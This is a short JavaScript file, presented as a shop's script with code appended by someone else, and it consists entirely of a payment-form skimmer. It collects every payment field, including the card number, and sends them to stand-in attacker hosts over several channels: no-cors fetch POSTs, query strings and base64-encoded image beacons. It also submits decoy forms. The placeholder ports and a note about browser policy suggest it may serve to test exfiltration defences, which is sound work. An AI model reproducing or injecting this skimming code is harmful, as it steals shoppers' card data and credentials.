// The shop's own script. What follows was appended by somebody else.
const fields = Object.fromEntries(new FormData(document.getElementById('payment')));
const text = JSON.stringify(fields);
const quiet = { mode: 'no-cors' };
fetch('https://evil-fetch.example.org:PORT/body', { ...quiet, method: 'POST', body: text });
fetch('https://evil-fetch.example.org:PORT/query?n=' + fields.number, quiet);
new Image().src = 'https://evil-img.example.com:PORT/pixel.gif?d=' + btoa(text);
new Image().src = 'https://evil-img.example.com:PORT/i/' + btoa(text).replace(/=+$/, '') + '/pixel';
for (const form of ['fake', 'fake-get']) {
  // Where a policy blocks it, Firefox throws.
  try { document.getElementById(form).submit(); } catch {}
}
